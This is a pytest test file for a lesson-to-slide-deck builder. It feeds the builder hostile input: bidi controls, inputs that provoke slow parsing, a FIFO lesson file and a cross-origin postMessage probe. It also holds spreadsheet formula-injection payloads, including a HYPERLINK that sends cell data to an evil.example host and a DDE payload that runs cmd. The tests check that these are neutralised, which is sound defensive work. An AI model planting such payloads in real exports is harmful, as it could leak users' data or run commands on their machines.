"""Hostile lesson and config input that is not a one-message fixture (those are in test_safety.py): what
must stay the author's text, what must not hang or take quadratic time, files that are not lessons, the
environment, the theme.

The complexity tests compare the CPU time of one parse for an input of size n and 2n: linear work about
doubles, quadratic work quadruples. No test has a time limit."""

from __future__ import annotations

import contextlib
import gc
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import run_cli
from microlearn.errors import MicrolearnError
from microlearn.lessons.parse import parse_lesson
from microlearn.site.build import build

FRONT = "---\ntitle: Δοκιμή\nobjectives:\n  - Να δοκιμάσουμε.\n---\n\n"
STAGE = "## Στάδιο {time=1m}\n\nΚείμενο.\n\n::: notes\nΑφήγηση.\n:::\n"
CONFIG = "languages:\n  el:\n    title: Δοκιμή\n"


def project(root: Path, lesson: str, config: str = CONFIG) -> Path:
    (root / "content" / "case").mkdir(parents=True)
    (root / "microlearn.yml").write_text(config, encoding="utf-8")
    (root / "content" / "case" / "el.md").write_text(lesson, encoding="utf-8")
    return root


def built(tmp_path: Path, lesson: str, config: str = CONFIG) -> tuple[str, str]:
    """The deck and the handout of a one-lesson project."""
    root = project(tmp_path / "p", lesson, config)
    build(root, tmp_path / "site", with_pdf=False)
    lesson_dir = tmp_path / "site" / "el" / "case"
    return ((lesson_dir / "index.html").read_text(encoding="utf-8"),
            (lesson_dir / "handout.html").read_text(encoding="utf-8"))


def message(tmp_path: Path, lesson: str | None = None, config: str = CONFIG) -> str:
    root = project(tmp_path / "p", lesson or FRONT + STAGE, config)
    with pytest.raises(MicrolearnError) as caught:
        build(root, tmp_path / "site", with_pdf=False)
    assert not (tmp_path / "site").exists()
    return str(caught.value).replace(f"{root.resolve()}/", "").replace(f"{root}/", "")


# ---------------------------------------------------------------- the author's text stays the author's

def test_yaml_1_1_numbers_and_words_stay_the_authors_text(tmp_path):
    deck, handout = built(tmp_path, "---\ntitle: 12:30\nobjectives: [010, 0x1F, .inf, 1_000, no, 2024-01-01]\n"
                                    "key_messages:\n  - 1e3\n---\n\n" + STAGE)
    assert "<title>12:30" in deck
    for text in ("010", "0x1F", ".inf", "1_000", "no", "2024-01-01", "1e3"):
        assert re.search(f"<li[^>]*>{re.escape(text)}</li>", handout), text


def test_numbers_of_thousands_of_digits_are_text_not_a_traceback(tmp_path):
    digits = "7" * 4999
    deck, handout = built(tmp_path, f"---\ntitle: {digits}\nobjectives:\n  - {'3' * 4301}\n---\n\n" + STAGE)
    assert f"<title>{digits}" in deck and "3" * 4301 in handout


def test_bidi_controls_are_taken_out_of_every_front_matter_field(tmp_path):
    deck, handout = built(tmp_path, "---\ntitle: Δοκιμή\nobjectives:\n  - \"\\u202eevil\"\nkey_messages: "
                                    "[\"\\u2066κ\\u2069\"]\ndiscussion: [\"\\u202bδ\"]\ncompetence_area: \"\\u202dα\"\n"
                                    "credits: \"\\u202cc\"\n---\n\n" + STAGE)
    for page in (deck, handout):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", page)
    assert re.search("<li[^>]*>evil</li>", handout)


@pytest.mark.parametrize("quoted", ['"1h 10m"', "'1h 10m'"])
def test_a_quoted_stage_time_may_hold_a_space(tmp_path, quoted):
    deck, _ = built(tmp_path, FRONT + STAGE.replace("{time=1m}", "{time=" + quoted + " #start}"))
    assert 'data-timing="4200"' in deck and 'id="start"' in deck


def test_a_next_line_character_does_not_shift_line_numbers(tmp_path):
    root = project(tmp_path / "p", "---\ntitle: T\x85oops: 1\nobjectives:\n  - Να δοκιμάσουμε.\n---\n\n" + STAGE)
    result = build(root, tmp_path / "site", with_pdf=False)
    assert [(w.line, w.message) for w in result.warnings if w.code == "unknown-key"] == [
        (2, "unknown front matter key 'oops'")]


# ---------------------------------------------------------------- linear time, limits before work

def cpu_seconds(path: Path) -> float:
    """The least CPU time of one parse of ``path`` (repeated until a round takes 0.2 s, best of 3), with
    the cyclic garbage collector paused (its full collections grow with every object alive)."""
    best = float("inf")
    for _ in range(3):
        gc.collect()
        gc.disable()
        try:
            count, start = 0, time.process_time()
            while True:
                with contextlib.suppress(MicrolearnError):
                    parse_lesson(path, "case", "el")
                count += 1
                elapsed = time.process_time() - start
                if elapsed >= 0.2:
                    break
        finally:
            gc.enable()
        best = min(best, elapsed / count)
    return best


# Inputs grow fourfold: linear work grows about 4 times, quadratic work 16 times; the bound of 8 leaves
# room for a busy machine on both sides.
GROWTH, BOUND = 4, 8


def growth(tmp_path: Path, make, n: int) -> float:
    """How much the parse's CPU time grows when the input ``make(n)`` grows GROWTH times."""
    small, large = tmp_path / "small.md", tmp_path / "large.md"
    small.write_text(make(n), encoding="utf-8")
    large.write_text(make(GROWTH * n), encoding="utf-8")
    return cpu_seconds(large) / cpu_seconds(small)


def test_heading_attributes_are_read_in_linear_time(tmp_path):
    # A heading line of n spaces: quadratic work was 67 s at 200 KB.
    ratio = growth(tmp_path, lambda n: FRONT + "## S " + " " * n + "x\n\nΚ.\n", 20_000)
    assert ratio < BOUND, f"{GROWTH} times the heading multiplied the work by {ratio:.1f}"


def test_an_unclosed_front_matter_is_scanned_in_linear_time(tmp_path):
    # The front matter never closes, so every line is looked at for a stage heading: one long line of '{'.
    ratio = growth(tmp_path, lambda n: "---\ntitle: T\n## a" + "{" * n + "\n", 20_000)
    assert ratio < BOUND, f"{GROWTH} times the line multiplied the work by {ratio:.1f}"


@pytest.mark.slow  # parses n and 4n notes blocks
def test_notes_blocks_are_matched_in_linear_time(tmp_path):
    # 20,000 blocks (340 KB): the quadratic scan's part is large enough to tell (main took 67 s for 60,000).
    ratio = growth(tmp_path, lambda n: FRONT + "## Στάδιο {time=1m}\n\n" + "::: notes\nn\n:::\n\n" * n, 20_000)
    assert ratio < BOUND, f"{GROWTH} times the notes blocks multiplied the work by {ratio:.1f}"


def test_the_stage_limit_is_checked_before_any_stage_is_read(tmp_path):
    # Each of the 5,001 stages has a missing image: none of them is read, the limit is the one message.
    lesson = FRONT + "## S {time=1m}\n\n![x](nowhere.png)\n\n" * 5001
    with pytest.raises(MicrolearnError) as caught:
        parse_lesson(project(tmp_path / "p", lesson) / "content" / "case" / "el.md", "case", "el")
    assert (caught.value.line, caught.value.message, caught.value.also) == (6, "5001 stages; the limit is 5000", [])


def test_a_lesson_larger_than_the_limit_is_refused_before_it_is_read(tmp_path):
    lesson = FRONT + STAGE + "Κείμενο.\n" * 120_000  # about 1.2 MB
    assert message(tmp_path, lesson).startswith(
        f"content/case/el.md:1: the lesson is {len(lesson.encode()):,} bytes; the limit is 1,000,000: split it "
        "into several lessons")


# ---------------------------------------------------------------- files that are not lessons

def test_a_folder_named_like_a_lesson_file_is_refused(tmp_path):
    root = project(tmp_path / "p", FRONT + STAGE, CONFIG + "  ru:\n    title: Тест\n")
    (root / "content" / "case" / "ru.md").mkdir()
    with pytest.raises(MicrolearnError) as caught:
        build(root, tmp_path / "site", with_pdf=False)
    assert str(caught.value).replace(f"{root.resolve()}/", "") == (
        "content/case/ru.md:1: 'ru.md' is a folder, not a lesson file; rename it or move it out of case/")


@pytest.mark.parametrize("command", [["check"], ["build", "--no-pdf"]])
def test_a_fifo_named_like_a_lesson_file_does_not_hang(tmp_path, command):
    root = project(tmp_path / "p", FRONT + STAGE, CONFIG + "  ru:\n    title: Тест\n")
    os.mkfifo(root / "content" / "case" / "ru.md")
    result = subprocess.run([sys.executable, "-m", "microlearn", *command], cwd=root, capture_output=True,
                            text=True, timeout=120, check=False)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert ("content/case/ru.md:1:1: error: 'ru.md' is not a regular file (a pipe, socket or device?); a lesson "
            "is a text file") in result.stderr


# ---------------------------------------------------------------- the project configuration

def test_languages_may_be_a_list_of_codes(tmp_path):
    root = project(tmp_path / "p", FRONT + STAGE, "languages: [el, ru, fa, ar]\n")
    for lang in ("ru", "fa", "ar"):
        (root / "content" / "case" / f"{lang}.md").write_text(FRONT + STAGE, encoding="utf-8")
    result = build(root, tmp_path / "site", with_pdf=False)
    assert [p for p in sorted(result.files) if p.endswith("/case/index.html")] == [
        "ar/case/index.html", "el/case/index.html", "fa/case/index.html", "ru/case/index.html"]
    root_page = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert '<html lang="el"' in root_page, "the first listed language is the default"
    assert '<html lang="fa" dir="rtl"' in (tmp_path / "site" / "fa" / "case" / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("config, expected", [
    ("languages: [el, 5]\n", "microlearn.yml:1:17: '5' is not a language code such as 'el' or 'pt-BR'"),
    ("languages: [el, [ru]]\n", "microlearn.yml:1:17: 'languages' must list language codes, e.g. '[el, fa]'"),
    ("languages: []\n", "microlearn.yml:1:12: 'languages' must list language codes, e.g. '[el, fa]', or map them "
     "to settings, e.g. 'el: {title: ...}'"),
    ("languages:\n  - el\n  - ../x\n", "microlearn.yml:3:5: '../x' is not a language code such as 'el' or 'pt-BR'"),
])
def test_a_list_of_languages_is_checked_at_each_code(tmp_path, config, expected):
    assert message(tmp_path, config=config) == expected


# ---------------------------------------------------------------- the theme and the environment

@pytest.mark.parametrize("template, expected", [
    ("{% if outdated %}\n<p>{{ _('x') }</p>\n{% endif %}\n",
     "themes/default/templates/_outdated.html:2:1: error: template syntax error: unexpected '}'; fix the theme's "
     "template"),
    ("<p>\n{{ no_such_name }}\n</p>\n",
     "themes/default/templates/_outdated.html:2:1: error: template error: 'no_such_name' is undefined; fix the "
     "theme's template (rendering deck.html)"),
])
def test_a_broken_theme_template_is_reported_at_its_line(tmp_path, template, expected):
    root = project(tmp_path / "p", FRONT + STAGE)
    templates = root / "themes" / "default" / "templates"
    templates.mkdir(parents=True)
    (templates / "_outdated.html").write_text(template, encoding="utf-8")
    result = run_cli(root, "build", "--no-pdf")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert expected in result.stderr.splitlines(), result.stderr
    assert not (root / "site").exists()


@pytest.mark.parametrize("value, expected", [
    ("4354819200", "error: SOURCE_DATE_EPOCH=4354819200 is after 2107-12-31, the last date a zip file can hold; set "
                   "it to the time of the sources, e.g. $(git log -1 --format=%ct)"),
    ("99999999999999999999", "error: SOURCE_DATE_EPOCH='99999999999999999999' is not a time: set it to the seconds "
                             "since 1970-01-01 UTC, e.g. $(git log -1 --format=%ct), or unset it"),
    ("yesterday", "error: SOURCE_DATE_EPOCH='yesterday' is not a time: set it to the seconds since 1970-01-01 UTC, "
                  "e.g. $(git log -1 --format=%ct), or unset it"),
])
def test_a_source_date_epoch_no_zip_can_hold_is_an_error(tmp_path, value, expected):
    root = project(tmp_path / "p", FRONT + STAGE)
    result = run_cli(root, "build", "--no-pdf", env={"SOURCE_DATE_EPOCH": value})
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert expected in result.stderr.splitlines(), result.stderr
    assert not (root / "site").exists()


def test_the_last_date_a_zip_can_hold_builds(tmp_path):
    root = project(tmp_path / "p", FRONT + STAGE)
    result = run_cli(root, "build", "--no-pdf", env={"SOURCE_DATE_EPOCH": "4354819199"})
    assert result.returncode == 0, result.stderr


# ---------------------------------------------------------------- the deck in a browser

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1-1"]


def test_saved_timings_cannot_run_as_spreadsheet_formulas(browser, tmp_path):
    stages = "".join(f"## {title} {{time=1m}}\n\nΚείμενο.\n\n::: notes\nΑφήγηση.\n:::\n\n" for title in FORMULAS)
    built(tmp_path, FRONT + stages)
    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
    try:
        deck = ctx.new_page()
        deck.goto((tmp_path / "site" / "el" / "case" / "index.html").as_uri() + "#1")
        deck.wait_for_selector("html.js", state="attached")
        with ctx.expect_page() as popup:
            deck.keyboard.press("p")
        pv = popup.value
        pv.wait_for_selector(".pv")
        deck.keyboard.press("End")
        report = pv.locator(".pv__report")
        report.wait_for(state="visible")
        with pv.expect_download() as info:
            report.locator("button").click()
        text = Path(info.value.path()).read_text(encoding="utf-8-sig")
    finally:
        ctx.close()
    titles = [line.split(",", 3)[3].rsplit(",", 2)[0] for line in text.splitlines()[1:] if line.split(",")[2]]
    assert titles == ['"\'' + t.replace('"', '""') + '"' for t in FORMULAS]


def test_the_deck_talks_only_to_windows_of_its_own_origin(browser, tmp_path):
    built(tmp_path, FRONT + STAGE * 3)
    site = tmp_path / "site"
    ctx = browser.new_context()
    try:
        def serve(route):
            path = site / route.request.url.split("://deck.test/", 1)[1].split("?")[0].split("#")[0]
            route.fulfill(body=path.read_bytes(), content_type="text/html" if path.suffix == ".html" else
                          "text/css" if path.suffix == ".css" else "text/javascript")
        ctx.route("http://deck.test/**", serve)
        ctx.route("http://evil.test/**", lambda route: route.fulfill(body="<!doctype html><title>x</title>",
                                                                     content_type="text/html"))
        evil = ctx.new_page()
        evil.goto("http://evil.test/")
        evil.evaluate("""() => { window.got = [];
            window.addEventListener('message', e => window.got.push(JSON.stringify(e.data))); }""")
        with ctx.expect_page() as popup:
            evil.evaluate("() => { window.deck = window.open('http://deck.test/el/case/index.html?presenter#1'); }")
        deck = popup.value
        deck.wait_for_selector(".pv")
        evil.evaluate("""() => window.deck.postMessage({microlearn: 'el/case', type: 'state', presenter: false,
            state: {pos: {slide: 2, rev: 1e15}, black: {on: true, rev: 1e15}}}, '*')""")
        deck.wait_for_timeout(300)
        assert deck.evaluate("location.hash") == "#1", "a message from another origin moved the deck"
        assert evil.evaluate("window.got") == [], "the deck sent its state to another origin"
    finally:
        ctx.close()


def test_i18n_init_reads_source_date_epoch_the_same_way(tmp_path):
    root = project(tmp_path / "p", FRONT + STAGE)
    result = run_cli(root, "i18n", "init", "ru", env={"SOURCE_DATE_EPOCH": "99999999999999999999"})
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert ("error: SOURCE_DATE_EPOCH='99999999999999999999' is not a time: set it to the seconds since 1970-01-01 "
            "UTC, e.g. $(git log -1 --format=%ct), or unset it") in result.stderr.splitlines()
    assert not (root / "locales").exists()
    good = run_cli(root, "i18n", "init", "ru", env={"SOURCE_DATE_EPOCH": "1600000000"})
    assert good.returncode == 0, good.stderr
    assert '"PO-Revision-Date: 2020-09-13 12:26+0000' in (root / "locales/ru/LC_MESSAGES/messages.po").read_text(
        encoding="utf-8")
